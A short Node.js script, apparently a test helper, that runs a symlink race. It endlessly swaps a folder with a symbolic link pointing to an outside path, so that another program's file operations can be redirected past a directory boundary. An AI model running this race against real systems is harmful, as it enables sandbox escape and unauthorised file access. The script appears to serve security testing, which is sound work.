/** Swaps a folder for a symbolic link that leads out, and back, as fast as it can. Arguments: the folder, where the link leads. Prints `swapping`. */
import { renameSync, symlinkSync, writeSync } from 'node:fs';

const [, , folder = '', outside = ''] = process.argv;
symlinkSync(outside, `${folder}.link`);
writeSync(1, 'swapping\n');

for (;;) {
  renameSync(folder, `${folder}.real`);
  renameSync(`${folder}.link`, folder);
  renameSync(folder, `${folder}.link`);
  renameSync(`${folder}.real`, folder);
}
